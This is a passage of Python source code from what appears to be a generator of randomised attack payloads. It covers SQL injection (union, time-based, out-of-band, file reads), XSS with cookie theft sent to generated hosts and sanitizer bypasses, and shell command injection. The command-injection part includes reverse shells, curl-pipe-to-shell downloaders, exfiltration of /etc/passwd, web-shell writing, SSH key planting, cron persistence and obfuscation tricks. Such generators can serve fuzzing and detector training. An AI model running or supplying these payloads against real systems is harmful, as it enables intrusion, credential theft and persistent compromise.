            body = f" {r.choice(['AND', 'AND', 'OR'])} {e}"
        else:
            body = f" AND {_sql_ifcond(r, d, _sql_cond(r, d, t, c))}"
        return finish(body)
    if tech == "time":
        kind, e = _sql_delay(r, d, t, c)
        if kind == "stmt":
            sep = r.choice([";", "; ", " "]) if d == "mssql" else r.choice([";", "; "])
            return finish(sep + e, stmt=True)
        return finish(f" {r.choice(['AND', 'AND', 'OR'])} {e}")
    if tech == "stacked":
        sep = r.choice([";", "; ", " "]) if d == "mssql" else r.choice([";", "; ", ";\n"])
        return finish(sep + _sql_stmt(r, d, t, c), stmt=True)
    if tech == "oob":
        kind, e = _sql_oob(r, d, t, c)
        if kind == "stmt":
            return finish(r.choice([";", "; "]) + e, stmt=True)
        return finish(f" {r.choice(['AND', 'OR'])} {e}")
    if tech == "order":
        if r.random() < 0.5:
            k = r.randint(1, 30)
            body = _pick(r, (3, f" ORDER BY {k}"), (1, f" GROUP BY {', '.join(str(i) for i in range(1, k % 6 + 2))}"),
                         (1 if d == "mssql" else 0, f" GROUP BY {t}.{c} HAVING 1=1"),
                         (0.5 if d == "mysql" else 0, f" PROCEDURE ANALYSE(EXTRACTVALUE({k},CONCAT(0x3a,{_sql_secret(r, d, t, c)})),1)"))
            return pre + _sql_style(r, body, d) + _sql_end(r, d)
        # the value is an ORDER BY expression itself
        c1, c2 = r.choice(["id", "name", "price", "created_at", "1"]), r.choice(["title", "email", "2", "updated"])
        cond = _sql_cond(r, d, t, c)
        e = _pick(r, (3, f"(CASE WHEN ({cond}) THEN {c1} ELSE {c2} END)"),
                  (1.5 if d == "mysql" else 0, f"IF({cond},{c1},{c2})"),
                  (1 if d == "mysql" else 0, f"RAND({cond})"),
                  (1.5, lambda: f"{c1},{_sql_error(r, d, t, c) or cond}"),
                  (1 if d == "mysql" else 0, f"(SELECT {r.randint(1, 9)} FROM (SELECT SLEEP({r.randint(2, 20)}))x)"),
                  (1 if d == "mssql" else 0, f"{c1};WAITFOR DELAY '0:0:{r.randint(2, 20)}'--"))
        return _sql_style(r, e, d)
    if tech == "inline":
        s = _sql_secret(r, d, t, c)
        if d == "mysql":
            k = r.randint(2, 20)
            body = _pick(r, (2, lambda: f" OR {_sql_error(r, d, t, c)} OR {q}"), (1.5, f"-SLEEP({k})-{q}"),
                         (1, f"|SLEEP({k})|{q}"), (1, f"XOR(IF(NOW()=SYSDATE(),SLEEP({k}),0))XOR{q}"),
                         (1, f"+(SELECT ASCII({s}))+{q}"))
        elif d == "mssql":
            body = _pick(r, (2, f"+{s}+{q}"), (1, f"+CONVERT(VARCHAR(4000),{s})+{q}"),
                         (1, lambda: f"+CAST({_sql_secret(r, d, t, c)} AS int)+{q}"))
        else:
            delay = {"pg": f"(SELECT 1 FROM pg_sleep({r.randint(2, 20)}))",
                     "oracle": f"DBMS_PIPE.RECEIVE_MESSAGE(CHR({r.randint(65, 90)}),{r.randint(2, 20)})",
                     "sqlite": f"LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({r.randint(1, 9)}00000000/2))))"}[d]
            body = _pick(r, (2, f"||{s}||{q}"), (1.5, f"||{delay}||{q}"),
                         (1 if d == "oracle" else 0, lambda: f"||UTL_INADDR.GET_HOST_ADDRESS({s}||'.{_dom(r)}')||{q}"),
                         (1 if d == "oracle" else 0, f"||CTXSYS.DRITHSX.SN(1,{s})||{q}"),
                         (1 if d == "pg" else 0, f"||CAST({s} AS int)||{q}"))
        return pre + _sql_style(r, body, d)
    if tech == "update":
        field, val = r.choice([("role", "admin"), ("is_admin", "1"), ("isAdmin", "true"), ("user_type", "administrator"),
                               ("balance", "999999"), ("email", f"{_ident(r)}@{_host(r)}"), ("group_id", "1")])
        if r.random() < 0.5:
            return pre + f",{field}={q}{val}"
        k = r.choice(["password", "pass", "pwd"])
        return pre + f",{field}={q}{val}{q},{k}={_sql_lit(r, _ident(r), d)} WHERE {r.choice(['username', 'login', 'name'])}={q}{_word(r)}{q}" + _sql_end(r, d)

    # union
    ncol = r.randint(1, 8)
    pos = r.randrange(ncol)
    fill = "NULL" if d in ("pg", "mssql", "oracle") else r.choice(["NULL", "num"] + (["\\N"] if d == "mysql" else []))
    cols = [str(i + 1) if fill == "num" else fill for i in range(ncol)]
    sep = {"mysql": "0x3a", "pg": "':'", "mssql": "':'", "oracle": "':'", "sqlite": "':'"}[d]
    u, pw = r.choice(["username", "login", "email", "name"]), c
    src = _pick(r, (3, "col"), (2, "scalar"), (1.5, "catalog"), (1.5, "pair"), (0.7 if d in ("mysql", "pg") else 0, "file"))
    frm = ""
    if src == "col":
        val, frm = c, f" FROM {t}"
    elif src == "pair":
        val = {"mysql": f"CONCAT_WS({sep},{u},{pw})", "mssql": f"{u}+{sep}+{pw}"}.get(d, f"{u}||{sep}||{pw}")
        frm = f" FROM {t}"
    elif src == "catalog":
        val, frm = {"mysql": ("GROUP_CONCAT(table_name)", " FROM information_schema.tables WHERE table_schema=database()"),
                    "pg": ("table_name", " FROM information_schema.tables"),
                    "mssql": ("name", " FROM sysobjects WHERE xtype='U'"),
                    "oracle": ("table_name", " FROM all_tables"),
                    "sqlite": ("sql", " FROM sqlite_master")}[d]
    elif src == "file":
        val = r.choice(["LOAD_FILE('/etc/passwd')", "LOAD_FILE(0x2f6574632f706173737764)", "LOAD_FILE('/var/www/html/config.php')"]) \
            if d == "mysql" else r.choice(["pg_read_file('/etc/passwd')", "pg_read_file('postgresql.conf')", "pg_ls_dir('.')::text"])
    else:
        val = _sql_secret(r, d, t, c)
    if d == "oracle" and not frm:
        frm = " FROM dual"
    cols[pos] = val
    head = r.choice(["UNION SELECT", "UNION ALL SELECT", "UNION ALL SELECT"] + (["UNION DISTINCT SELECT"] if d in ("mysql", "pg") else []))
    if ctx == "num":
        pre = r.choice([f"-{r.randint(1, 99999)}", "0", f"{v} AND 1=0", v, "null"])
    elif ctx == "str" and r.random() < 0.3:
        pre = r.choice(["", "x", _ident(r)]) + q
    limit = ""
    if frm and r.random() < 0.3 and d in ("mysql", "pg", "sqlite"):
        limit = f" LIMIT {r.randint(0, 9)},1" if d == "mysql" else f" LIMIT 1 OFFSET {r.randint(0, 9)}"
    if ctx == "str" and not frm and d != "oracle" and r.random() < 0.4:
        cols.append(f"{q}{_word(r)}")  # the application's closing quote ends this column
        return pre + _sql_style(r, f" {head} " + ",".join(cols), d)
    if d == "mysql" and r.random() < 0.25:
        body = f" {head.split(' SELECT')[0]}(SELECT " + ",".join(cols) + frm + limit + ")"
    else:
        body = f" {head} " + ",".join(cols) + frm + limit
    if ctx == "str" and frm and not limit and r.random() < 0.3:
        w = _word(r)
        return pre + _sql_style(r, body + f" {'AND' if 'WHERE' in frm else 'WHERE'} {q}{w}{q}={q}{w}", d)
    return pre + _sql_style(r, body, d) + _sql_end(r, d)


# XSS: HTML5 tokenizer and tree builder, attribute and URL contexts, JavaScript, SVG/MathML, CSS


def _js_call(r, avoid=""):
    """A JavaScript expression that proves or uses script execution; it contains none
    of the characters in `avoid` (the ones that would end the injection context)."""
    n, host, x = _n(r), _host(r), _ident(r)
    f = r.choice(["alert", "alert", "prompt", "confirm"])
    arg = r.choice([n, n, "document.domain", "document.cookie", "origin", "window.origin", "1", "localStorage.token"])
    js = f"{f}({arg})"
    options = [
        (6, js), (1, "print()"), (1.5, f"{f}`{n}`"), (1, f"({f})({arg})"), (1, f"[{n}].find({f})"),
        (1, f"[{arg}].map({f})"), (1, f"top['{f}']({arg})"), (1, f'window["{f}"]({arg})'),
        (1, f"self[atob('{_b64(f)}')]({arg})"), (1, f"eval(atob('{_b64(js)}'))"), (1, f"Function('{f}({n})')()"),
        (1, f"setTimeout('{f}({n})')"), (1, f"\\u{ord(f[0]):04x}{f[1:]}({arg})"), (0.7, f"\\u{{{ord(f[0]):x}}}{f[1:]}({arg})"),
        (1.5, f"fetch('//{host}/?c='+document.cookie)"), (1, f"new Image().src='//{host}/'+document.cookie"),
        (1, f"location='//{host}/?'+document.cookie"), (1, f"navigator.sendBeacon('//{host}/{x}',document.cookie)"),
        (1, f"import('//{host}/{x}.js')"),
        (0.7, f"document.body.appendChild(document.createElement('script')).src='//{host}/{x}.js'"),
        (0.7, f"{f}?.({arg})"), (0.5, f"throw onerror={f},{n}"), (0.5, f"Reflect.apply({f},null,[{n}])"),
        (0.5, "eval('" + "".join(f"\\x{ord(ch):02x}" for ch in f) + f"({n})')"),
        (0.5, f"[].constructor.constructor('{f}({n})')()"), (0.5, f"window['{f[:2]}'+'{f[2:]}']({arg})"),
        (0.4, f"globalThis[`{f}`]({n})"), (0.4, f"with(document)body.appendChild(createElement('script')).src='//{host}/{x}.js'"),
        (0.4, f"document.location.href='https://{host}/?'+btoa(document.cookie)"),
    ]
    ok = [(w, s) for w, s in options if not any(ch in s for ch in avoid)]
    return _pick(r, *ok) if ok else f"{f}({n})"


def _html_ents(r, s, p=0.5):
    """Characters written as HTML character references (decoded in attribute values)."""
    named = {"(": "&lpar;", ")": "&rpar;", ":": "&colon;", ".": "&period;", "'": "&apos;", "/": "&sol;", ",": "&comma;"}
    style = r.choice(["dec", "hex", "pad", "named", "mixed"])
    out = []
    for ch in s:
        if r.random() >= p:
            out.append(ch)
            continue
        st = r.choice(["dec", "hex", "pad", "named"]) if style == "mixed" else style
        if st == "named" and ch in named:
            out.append(named[ch])
        elif st == "dec":
            out.append(f"&#{ord(ch)};")
        elif st == "pad":
            out.append(f"&#x{ord(ch):06x};" if r.random() < 0.5 else f"&#{ord(ch):07d};")
        else:
            out.append(f"&#x{ord(ch):x};")
    return "".join(out)


def _tagname(r, name):
    return _pick(r, (6, name), (1, name.upper()), (1.5, lambda: _mixcase(r, name)))


def _attr_sep(r):
    return _pick(r, (8, " "), (1, "\t"), (1, "\n"), (0.7, "\x0c"), (0.5, "  "), (0.5, "\r"))


def _attr(r, name, value, quote=None, enc=False):
    """An attribute as the HTML tokenizer reads it: name, optional spaces around '=',
    value unquoted or in either quote, character references if `enc`."""
    name = _pick(r, (5, name), (1, lambda: _mixcase(r, name)), (0.5, name.upper()))
    if value is None:
        return name
    if enc and "&" not in value:
        value = _html_ents(r, value, r.choice([0.2, 0.5, 1.0]))
    if quote is None:
        can_bare = not any(ch in value for ch in " \t\n\r\x0c>\"'`=<")
        quote = r.choice(["", "", '"', "'"]) if can_bare else ('"' if '"' not in value else "'")
    eq = _pick(r, (10, "="), (0.5, " = "), (0.3, "\n=\n"))
    return f"{name}{eq}{quote}{value}{quote}"


def _ev_js(r, quote_hint=None):
    """(js, quote) for an event handler attribute."""
    q = quote_hint if quote_hint is not None else r.choice(["", '"', "'"])
    avoid = {"": " \t\n>\"'`", '"': '"', "'": "'"}[q]
    js = _js_call(r, avoid)
    return js, q


def _element(r):
    """An element whose own markup runs script (on load, error, focus, toggle, animation)."""
    tn = lambda s: _tagname(r, s)  # noqa: E731
    sp = _attr_sep(r)
    first = _pick(r, (5, lambda: _attr_sep(r)), (2, "/"))
    js, q = _ev_js(r)
    enc = r.random() < 0.2
    ev = lambda name: _attr(r, name, js, q, enc)  # noqa: E731
    x = r.choice(["x", "1", "#", "//", _ident(r, 1, 1), "data:,", "/" + _ident(r, 1, 1) + ".png"])
    close = _pick(r, (8, ">"), (1, " >"), (0.6, "//"), (0.4, ""))
    return _pick(
        r,
        (5, lambda: f"<{tn('img')}{first}{_attr(r, 'src', x)}{sp}{ev('onerror')}{close}"),
        (1, lambda: f"<{tn('image')}{first}{_attr(r, 'src', x)}{sp}{ev('onerror')}{close}"),
        (1, lambda: f"<{tn(r.choice(['video', 'audio']))}{first}{_attr(r, 'src', x)}{sp}{ev('onerror')}>"),
        (1, lambda: f"<{tn('video')}><{tn('source')}{first}{ev('onerror')}>"),
        (1, lambda: f"<{tn('input')}{first}{_attr(r, 'type', 'image')}{sp}{_attr(r, 'src', x)}{sp}{ev('onerror')}>"),
        (4, lambda: f"<{tn('svg')}{first}{ev('onload')}{close}"),
        (1.5, lambda: f"<{tn('body')}{first}{ev(r.choice(['onload', 'onpageshow', 'onfocus', 'onhashchange']))}>"),
        (2, lambda: f"<{tn(r.choice(['input', 'textarea', 'select', 'button', 'keygen']))}{first}{_attr(r, 'autofocus', None)}{sp}{ev('onfocus')}>"),
        (1, lambda: f"<{tn(r.choice(['a', 'div', 'x', 'span', 'p']))}{first}{_attr(r, 'tabindex', str(r.randint(0, 9)))}{sp}{_attr(r, 'autofocus', None)}{sp}{ev(r.choice(['onfocus', 'onfocusin']))}>"),
        (2, lambda: f"<{tn('details')}{first}{_attr(r, 'open', None)}{sp}{ev('ontoggle')}>"),
        (1.5, lambda: f"<{tn('iframe')}{first}{ev('onload')}>"),
        (1, lambda: f"<{tn('style')}{first}{ev('onload')}></style>"),
        (1, lambda: f"<{tn('marquee')}{first}{ev(r.choice(['onstart', 'onfinish']))}>"),
        (1.5, lambda: f"<{tn('svg')}><{tn(r.choice(['animate', 'set']))}{first}{ev(r.choice(['onbegin', 'onend']))}{sp}{_attr(r, 'attributeName', r.choice(['x', 'href', 'fill']))}{sp}{_attr(r, 'dur', '1s')}>"),
        (0.7, lambda: f"<{tn('svg')}><{tn('discard')}{first}{ev('onbegin')}>"),
        (1, lambda: f"<{tn(r.choice(['div', 'a', 'span', 'p', 'b']))}{first}{ev(r.choice(['onmouseover', 'onpointerenter', 'onclick', 'onmouseenter', 'onpointerdown']))}>{_ident(r)}</{tn('div')}>"),
        (0.7, lambda: f"<{tn('xss')}{first}{_attr(r, 'style', 'content-visibility:auto', chr(34))}{sp}{ev('oncontentvisibilityautostatechange')}>"),
        (0.7, lambda: f"<{tn('object')}{first}{_attr(r, 'data', x)}{sp}{ev('onerror')}>"),
        (0.7, lambda: f"<{tn('script')}{first}{_attr(r, 'src', x)}{sp}{ev('onerror')}></{tn('script')}>"),
        (0.5, lambda: f"<{tn('link')}{first}{_attr(r, 'rel', 'stylesheet')}{sp}{_attr(r, 'href', x)}{sp}{ev('onerror')}>"),
        (0.5, lambda: f"<{tn('frameset')}{first}{ev('onload')}>"),
    )


def _js_url(r, in_attr=True):
    """A javascript: (or data:) URL, with what URL parsing and attribute decoding let vary."""
    js = _js_call(r, " \"'>" if in_attr else "")
    scheme = _pick(r, (6, "javascript:"), (1.5, lambda: _mixcase(r, "javascript:")),
                   (1, lambda: "java" + r.choice(["\t", "\n", "\r"]) + "script:"),
                   (1 if in_attr else 0, lambda: _html_ents(r, "javascript:", 0.4)),
                   (0.7 if in_attr else 0, "javascript&colon;"), (0.7 if in_attr else 0, "jav&#x09;ascript:"),
                   (0.7, lambda: r.choice([" ", "\x01", "\x0b", "\x1f", "\t"]) + "javascript:"))
    return _pick(r, (6, scheme + js), (1, f"{scheme}//%0a{js}"), (1, f"{scheme}/*{_ident(r)}*/{js}"),
                 (0.7, f"{scheme}void({js})"),
                 (1, lambda: "data:text/html;base64," + _b64(f"<script>{_js_call(r)}</script>")),
                 (0.7, lambda: "data:text/html," + urllib.parse.quote(f"<script>{_js_call(r)}</script>", safe=":/=();,'")))


def xss(r):
    tech = _pick(r, (5, "element"), (2, "script"), (2.5, "attr"), (2, "js"), (2, "url"), (1.2, "link"),
                 (1, "svgmath"), (0.8, "mxss"), (0.8, "filter"), (0.6, "css"), (0.6, "csti"), (0.4, "base"))
    host, x = _host(r), _ident(r)
    # where the text lands: HTML body, or inside an element whose text the tokenizer does not parse as markup
    breakout = _pick(r, (10, ""), (1, "</title>"), (1, "</textarea>"), (0.7, "</style>"), (0.6, "</noscript>"),
                     (0.5, "</xmp>"), (0.6, "-->"), (0.4, "</iframe>"), (0.4, "</noembed>"), (0.3, "</plaintext>"),
                     (0.4, "</option></select>"), (0.5, "\">"), (0.5, "'>"), (0.3, "]]>"))
    if tech == "element":
        return breakout + _element(r)
    if tech == "script":
        tn = _tagname(r, "script")
        attrs = _pick(r, (5, ""), (1, " type=text/javascript"), (1, " type=module"), (0.5, " defer"), (0.5, " async"))
        return breakout + _pick(
            r, (4, lambda: f"<{tn}{attrs}>{_js_call(r)}</{tn}>"),
            (2, lambda: f"<{tn}{attrs} src={r.choice(['//', 'https://', 'http://'])}{host}/{x}.js></{tn}>"),
            (1, lambda: f"<{tn} src=data:,{_js_call(r, ' >')}></{tn}>"),
            (0.7, lambda: f"<{tn}>/*{_ident(r)}*/{_js_call(r)}//</{tn}>"),
            (0.5, lambda: f"<{tn}\n>{_js_call(r)}</{tn}\n>"))
    if tech == "attr":
        # the value lands inside a quoted (or unquoted) attribute of the application's element
        q = r.choice(['"', '"', "'", ""])
        close = q or r.choice(["x", _word(r), _n(r)]) + " "  # an unquoted value ends at white space
        focus = r.choice(["onfocus", "onfocus", "onfocusin", "onblur"])
        mouse = r.choice(["onmouseover", "onpointerover", "onclick", "onmouseenter", "onpointerenter", "onmousemove"])
        js = _js_call(r, q or " >\"'`")
        sp = _attr_sep(r) if q else " "
        return _pick(
            r, (3, lambda: f"{close}{sp}{_attr(r, focus, js, q)}{sp}{_attr(r, 'autofocus', None)}{sp}x={q}" if q else f"{close}{focus}={js}{sp}autofocus"),
            (2, lambda: f"{close}{sp}{mouse}={q}{js}"),
            (3, lambda: f"{q}>{_element(r)}"),
            (1, lambda: f"{q}>{breakout}<{_tagname(r, 'script')}>{_js_call(r)}</script>"),
            (1, lambda: f"{close}{sp}autofocus{sp}onfocus={q}{js}{q}{sp}x={q}"),
            (0.8, lambda: f"{close}{sp}accesskey={q}{r.choice('xsk')}{q}{sp}onclick={q}{js}{q}{sp}x={q}"),
            (0.6, lambda: f"{close}{sp}style={q}transition:outline 1s{q}{sp}ontransitionend={q}{js}{q}{sp}autofocus{sp}x={q}"),
            (0.6, lambda: f"{q}/{sp}onmouseover={q}{js}{sp}//" if q else f"{close}onmouseover={js}"))
    if tech == "js":
        # the value lands inside a script: a string literal, a template literal or an expression
        js = _js_call(r)
        sq = r.choice(["'", '"'])
        return _pick(
            r, (3, f"{sq};{js};//"), (2, f"{sq}-{js}-{sq}"), (1.5, f"{sq}+{js}+{sq}"), (1, f"\\{sq};{js};//"),
            (2, lambda: f"</{_tagname(r, 'script')}>{_element(r)}"), (1.5, f"</script><script>{js}</script>"),
            (1, f"${{{js}}}"), (1, f"{sq}}};{js};//"), (1, f"{sq}),{js},({sq}"), (1, f"{sq}];{js};//"),
            (0.7, f"{sq}||{js}||{sq}"), (0.7, f"{sq}*{js}*{sq}"), (0.5, f"{sq}\n{js}\n//"),
            (0.5, lambda: f"\\u00{ord(sq):02x};{js};//"), (0.5, f"{sq}}}}};{js};{{{{//"))
    if tech == "url":
        return _js_url(r, in_attr=r.random() < 0.6)
    if tech == "link":
        url = _js_url(r)
        tn = r.choice(["a", "a", "iframe", "form", "object", "embed", "math", "button"])
        if tn == "a":
            return breakout + f"<{_tagname(r, 'a')}{_attr_sep(r)}{_attr(r, 'href', url, enc=r.random() < 0.2)}>{_ident(r)}</a>"
        if tn == "iframe":
            if r.random() < 0.7:
                return breakout + f"<{_tagname(r, 'iframe')}{_attr_sep(r)}{_attr(r, 'src', url)}>"
            return breakout + f"<{_tagname(r, 'iframe')}{_attr_sep(r)}{_attr(r, 'srcdoc', '&lt;script&gt;' + _js_call(r, chr(34)) + '&lt;/script&gt;', chr(34))}>"
        if tn == "form":
            return breakout + f"<form{_attr_sep(r)}{_attr(r, 'action', url)}><input type=submit>"
        if tn == "button":
            return breakout + f"<form><{_tagname(r, 'button')}{_attr_sep(r)}{_attr(r, 'formaction', url)}>{_ident(r)}</button></form>"
        if tn == "math":
            return breakout + f"<math><mtext><a {_attr(r, 'xlink:href', url)}>{_ident(r)}</a></mtext></math>"
        return breakout + f"<{tn}{_attr_sep(r)}{_attr(r, 'data' if tn == 'object' else 'src', 'data:text/html;base64,' + _b64('<script>' + _js_call(r) + '</script>'))}>"
    if tech == "svgmath":
        js = _js_call(r)
        return breakout + _pick(
            r, (2, f"<svg><script>{js}</script></svg>"), (1, f"<svg><script href=data:,{_js_call(r, ' >')} />"),
            (1.5, lambda: f"<svg><a xlink:href=\"{_js_url(r)}\"><text x=\"{r.randint(5, 50)}\" y=\"{r.randint(5, 50)}\">{_ident(r)}</text></a></svg>"),
            (1, lambda: f"<svg><a><animate attributeName=href {_attr(r, 'values', _js_url(r))} /><text x=20 y=20>{_ident(r)}</text></a></svg>"),
            (1, f"<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;{_js_call(r, chr(34))}&lt;/script&gt;\"></foreignObject></svg>"),
            (1, lambda: f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{_js_call(r, chr(34))}\"/>"),
            (0.7, f"<math><mi xlink:href=\"javascript:{_js_call(r, chr(34))}\">{_ident(r)}</mi></math>"))
    if tech == "mxss":
        # markup that a sanitizer's parse and the browser's re-parse read differently
        js = _js_call(r, " >\"'")
        return _pick(r, (2, f"<noscript><p title=\"</noscript><img src=x onerror={js}>\">"),
                     (2, f"<svg><style><img src=x onerror={js}></style></svg>"),
                     (1, f"<math><mtext><table><mglyph><style><img src=x onerror={js}>"),
                     (1, f"<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">"),
                     (1, f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>"),
                     (1, f"<noembed><img title=\"</noembed><img src onerror={js}>\"></noembed>"),
                     (0.7, f"<xmp><p title=\"</xmp><svg onload={js}>\">"))
    if tech == "filter":
        # what a filter that removes or rewrites a fixed word once leaves behind
        js = _js_call(r)
        return _pick(r, (2, f"<scr<script>ipt>{js}</scr</script>ipt>"), (1, f"<scrscriptipt>{js}</scrscriptipt>"),
                     (1, f"<<script>script>{js}<</script>/script>"),
                     (1, lambda: f"<img src=x on<script>error={_js_call(r, ' >')}>"),
                     (1, lambda: f"<img src=x oonerrornerror={_js_call(r, ' >')}>"),
                     (1, lambda: f"<svg on{chr(0)}load={_js_call(r, ' >')}>" if False else f"<svg/onload={_js_call(r, ' >')}//"),
                     (1, lambda: f"<{_mixcase(r, 'img')} {_mixcase(r, 'src')}=x {_mixcase(r, 'onerror')}={_js_call(r, ' >')}>"))
    if tech == "css":
        ch, fld = r.choice("abcdef0123456789"), r.choice(["csrf", "token", "password", "api_key", "nonce"])
        return breakout + _pick(
            r, (2, f"<style>@import '//{host}/{x}.css';</style>"), (1.5, f"<link rel=stylesheet href=//{host}/{x}.css>"),
            (2, f"<style>input[name={fld}][value^={ch}]{{background:url(//{host}/?{fld}={ch})}}</style>"),
            (1, f"<style>@font-face{{font-family:{x};src:url(//{host}/?c={ch});unicode-range:U+00{ord(ch):02X}}}body{{font-family:{x}}}</style>"),
            (1, lambda: f"<div style=\"background:url(//{host}/{x})\">{_element(r)}</div>"))
    if tech == "csti":
        # expressions evaluated by a client-side framework compiling the page (AngularJS, Vue)
        js = _js_call(r, "'")
        return _pick(r, (2, f"{{{{constructor.constructor('{js}')()}}}}"), (1.5, f"{{{{$on.constructor('{js}')()}}}}"),
                     (1, f"{{{{_c.constructor('{js}')()}}}}"), (1, f"{{{{$eval.constructor('{js}')()}}}}"),
                     (1, f"<div v-html=\"''.constructor.constructor('{js}')()\"></div>"),
                     (0.7, f"{{{{'a'.constructor.prototype.charAt=[].join;$eval('x=1}} }} }};{js}//');}}}}"))
    return breakout + _pick(r, (2, f"<base href=//{host}/>"), (1, f"<base href=\"https://{host}/{x}/\">"),
                            (1, f"<meta http-equiv=refresh content=\"0;url=//{host}/{x}\">"))


# Command injection: POSIX sh and bash, Windows cmd.exe, PowerShell, and option injection into argv


def _sh_command(r):
    """(command, simple): a POSIX shell command; `simple` when it is words without
    quotes or operators, so that word-level obfuscation keeps its meaning."""
    host, ip, port, x, dom = _host(r), _ip_public(r) if r.random() < 0.6 else _host(r), _port(r), _ident(r), _dom(r)
    peer = ip
    simple = [
        (4, "id"), (3, "whoami"), (2, "uname -a"), (4, "cat /etc/passwd"), (1, "cat /etc/shadow"), (1, "ls -la /"),
        (1, "hostname"), (1, "cat /proc/self/environ"), (1, "env"), (1, "ps aux"), (0.7, "cat /etc/issue"),
        (0.7, "ls -la /root/.ssh"), (0.7, "cat /root/.ssh/id_rsa"), (0.5, "getent passwd"), (0.5, "netstat -an"),
        (0.5, "ip a"), (0.5, f"head -n {r.randint(1, 20)} /etc/passwd"), (0.5, "cat /var/www/html/.env"),
        (1.5, f"sleep {r.randint(2, 30)}"), (1, f"ping -c {r.randint(2, 20)} 127.0.0.1"), (1.5, f"ping -c {r.randint(1, 5)} {host}"),
        (1.5, f"nslookup {x}.{dom}"), (1, f"curl http://{host}/{x}"), (1, f"wget http://{host}/{x}.sh -O /tmp/{x}"),
        (1, f"nc -e /bin/sh {peer} {port}"), (0.7, f"nc {peer} {port} -e /bin/bash"), (0.7, f"busybox nc {peer} {port} -e sh"),
        (0.5, f"socat TCP:{peer}:{port} EXEC:sh"), (0.5, "find / -perm -4000 -type f"), (0.5, f"touch /tmp/{x}"),
        (0.5, f"telnet {peer} {port}"), (0.4, f"chmod 777 /tmp/{x}"), (0.4, "crontab -l"),
    ]
    complex_ = [
        (1.5, f"nslookup $(whoami).{dom}"), (1, f"dig +short `id -u`.{dom}"), (1.5, f"curl http://{host}/?d=$(id|base64)"),
        (1, f"curl -d @/etc/passwd http://{host}/{x}"), (1, f"wget --post-file=/etc/passwd http://{host}/"),
        (2, f"curl -s http://{host}/{x}.sh|sh"), (1.5, f"wget -qO- http://{host}/{x}|bash"),
        (1, f"curl -o /tmp/{x} http://{host}/{x};chmod +x /tmp/{x};/tmp/{x}"),
        (1.5, f"bash -i >& /dev/tcp/{peer}/{port} 0>&1"), (1, f"bash -c 'bash -i >& /dev/tcp/{peer}/{port} 0>&1'"),
        (0.7, f"sh -i >& /dev/udp/{peer}/{port} 0>&1"), (0.7, f"0<&196;exec 196<>/dev/tcp/{peer}/{port}; sh <&196 >&196 2>&196"),
        (1, f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {peer} {port} >/tmp/f"),
        (1, f"python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"{peer}\",{port}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")'"),
        (0.7, f"perl -e 'use Socket;$i=\"{peer}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"sh -i\");}};'"),
        (0.7, f"php -r '$s=fsockopen(\"{peer}\",{port});exec(\"sh <&3 >&3 2>&3\");'"),
        (0.5, f"ruby -rsocket -e 'f=TCPSocket.open(\"{peer}\",{port}).to_i;exec sprintf(\"sh -i <&%d >&%d 2>&%d\",f,f,f)'"),
        (0.7, "python3 -c 'import os;os.system(\"id\")'"), (0.5, "perl -e 'system(\"id\")'"), (0.5, "php -r 'system(\"id\");'"),
        (0.5, "node -e 'require(\"child_process\").execSync(\"id\",{stdio:\"inherit\"})'"), (0.5, "awk 'BEGIN{system(\"id\")}'"),
        (0.4, "lua -e 'os.execute(\"id\")'"), (0.4, "find . -maxdepth 0 -exec id \\;"),
        (0.7, f"echo '<?php system($_GET[\"c\"]);?>' > /var/www/html/{x}.php"),
        (0.5, f"echo ssh-rsa AAAAB3NzaC1yc2E{_b64(bytes(r.randrange(256) for _ in range(12)))} {x} >> /root/.ssh/authorized_keys"),
        (0.5, f"(crontab -l;echo '* * * * * curl -s http://{host}/{x}|sh')|crontab -"),
        (0.5, "cat /etc/passwd | nc " + f"{peer} {port}"), (0.4, "tar cz /etc | nc " + f"{peer} {port}"),
    ]
    if r.random() < 0.6:
        return _pick(r, *simple), True
    return _pick(r, *complex_), False


def _sh_obfuscate(r, c):
    """The same command, written the way the shell still reads it: IFS for spaces,
    quotes and backslashes inside words, globbing, brace expansion, encoding."""
    words = c.split(" ")
    how = _pick(r, (3, "ifs"), (3, "quote"), (1.5, "glob"), (1.5, "brace"), (2, "b64"), (1, "hex"), (1, "rev"),
                (1, "var"), (0.7, "slash"), (0.7, "redir"))
    if how == "ifs":
        sep = r.choice(["${IFS}", "$IFS$9", "${IFS%??}", "$IFS", "\t"])
        out = words[0]
        for w in words[1:]:
            out += ("${IFS}" if sep == "$IFS" and (w[:1].isalnum() or w[:1] == "_") else sep) + w
        return out
    if how == "quote":
        def q(w):
            if len(w) < 2 or not w[0].isalpha():
                return w
            i = r.randint(1, len(w) - 1)
            return _pick(r, (2, f"{w[:i]}'{w[i:i + 1]}'{w[i + 1:]}"), (2, f'{w[:i]}"{w[i:i + 1]}"{w[i + 1:]}'),
                         (2, f"{w[:i]}\\{w[i:]}"), (1, f"{w[:i]}''{w[i:]}"), (1, f"{w[:i]}$@{w[i:]}"),
                         (0.7, f"{w[:i]}${{{_ident(r, 1, 1)}}}{w[i:]}"), (0.5, f"{w[:i]}$(){w[i:]}"))
        return " ".join([q(words[0])] + [q(w) if w.startswith("/") is False and r.random() < 0.5 else w for w in words[1:]])
    if how == "glob" and c in ("cat /etc/passwd", "cat /etc/shadow", "cat /etc/issue"):
        f = c.split("/")[-1]
        return r.choice(["/bin/c?t", "/???/c?t", "/bin/ca[t]", "/b??/cat"]) + " " + \
            r.choice([f"/e??/{f[:2]}??{f[4:]}", f"/et?/{f[:-1]}?", f"/e[t]c/{f}", f"/???/{f[0]}*{f[-1]}"])
    if how == "brace" and len(words) > 1 and all("," not in w and "{" not in w for w in words):
        return "{" + ",".join(words) + "}"
    if how == "redir" and words[0] in ("cat", "head") and len(words) == 2:
        return f"{words[0]}<{words[1]}"
    if how == "slash" and "/" in c:
        return c.replace("/", r.choice(["${HOME:0:1}", "${PATH:0:1}", "$(echo /)"]))
    if how == "hex":
